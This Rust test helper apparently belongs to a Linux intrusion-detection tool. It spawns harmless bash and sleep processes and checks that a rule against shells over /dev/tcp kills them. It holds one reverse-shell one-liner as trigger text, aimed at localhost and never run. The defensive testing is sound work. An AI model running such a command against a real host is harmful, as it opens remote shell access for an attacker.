//! Harmless processes that look like an attack, or nearly so. They sleep, and belong to the test that made them.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use rustix::process::{Pid, Signal};

use super::until;

/// `content/rules/linux/shell-over-dev-tcp.yml`, a rule with response `kill`.
pub const SHELL_RULE: &str = "ecb1dc93-e5a6-4c53-b514-9c3bd2177ad1";

/// Words on which that rule fires.
pub const SHELL_WORDS: &str = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1";

/// A pid with the time its process started, so that a reused pid is not taken for it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Known {
    pub pid: u32,
    pub start_ticks: u64,
}

/// State and start of a process (`man 5 proc_pid_stat`, fields 3, 4 and 22): state, parent, start in ticks.
fn stat(pid: u32) -> Option<(char, u32, u64)> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let fields: Vec<&str> = text.rsplit_once(") ")?.1.split(' ').collect();
    Some((fields.first()?.chars().next()?, fields.get(1)?.parse().ok()?, fields.get(19)?.parse().ok()?))
}

impl Known {
    /// The process with this pid now.
    pub fn of(pid: u32) -> Option<Self> {
        stat(pid).map(|(_, _, start_ticks)| Self { pid, start_ticks })
    }

    /// True until it has ended, waited for or not.
    pub fn lives(self) -> bool {
        stat(self.pid)
            .is_some_and(|(state, _, start)| start == self.start_ticks && !matches!(state, 'Z' | 'X'))
    }
}

/// The children of a process.
pub fn children(parent: u32) -> Vec<Known> {
    let pids = std::fs::read_dir("/proc").unwrap().filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok());
    pids.filter(|pid| stat(*pid).is_some_and(|(_, of, _)| of == parent)).filter_map(Known::of).collect()
}

/// Sends a signal to a child of this process that nobody has waited for yet: its pid cannot be another's.
pub fn signal(child: &Child, signal: Signal) {
    let pid = Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    rustix::process::kill_process(pid, signal).unwrap();
}

/// A bash with a child `sleep`, whose command line carries some words.
pub struct Tree {
    pub bash: Child,
    pub sleep: Known,
}

impl Tree {
    /// Starts it. Child first, words later: the script makes the child and waits for a line; then it runs the program
    /// anew with the words on its command line, which keeps the pid. So the child is there however soon the rule fires.
    pub fn start(dir: &Path, marker: &str, words: &str) -> Self {
        let (script, line) = (dir.join(format!("{marker}.sh")), dir.join(format!("{marker}.txt")));
        std::fs::write(&line, format!("read -r _; : {marker} # {words}")).unwrap();
        let text = format!("sleep 300 & echo $!\nread -r _\nexec bash -c \"$(<'{}')\"\n", line.display());
        std::fs::write(&script, text).unwrap();
        let mut bash = Command::new("bash")
            .arg(&script)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(bash.stdout.take().unwrap()).read_line(&mut first).unwrap();
        let pid = first.trim().parse().unwrap();
        let comm = format!("/proc/{pid}/comm");
        until("the child runs sleep", || {
            (std::fs::read_to_string(&comm).ok()?.trim() == "sleep").then_some(())
        });
        let sleep = Known::of(pid).unwrap();
        bash.stdin.as_mut().unwrap().write_all(b"\n").unwrap();
        Self { bash, sleep }
    }

    /// Its own pid.
    pub fn pid(&self) -> u32 {
        self.bash.id()
    }

    /// True while both live.
    pub fn lives(&mut self) -> bool {
        self.bash.try_wait().unwrap().is_none() && self.sleep.lives()
    }

    /// Waits until both have died, the parent by SIGKILL.
    #[track_caller]
    pub fn is_killed(&mut self) {
        let status = until("the process dies", || self.bash.try_wait().unwrap());
        assert_eq!(status.signal(), Some(9), "killed, not ended: {status}");
        until("its child dies", || (!self.sleep.lives()).then_some(()));
    }
}

impl Drop for Tree {
    fn drop(&mut self) {
        if self.sleep.lives() {
            let pid = Pid::from_raw(i32::try_from(self.sleep.pid).unwrap()).unwrap();
            let _ = rustix::process::kill_process(pid, Signal::KILL);
        }
        let _ = self.bash.kill();
        let _ = self.bash.wait();
    }
}
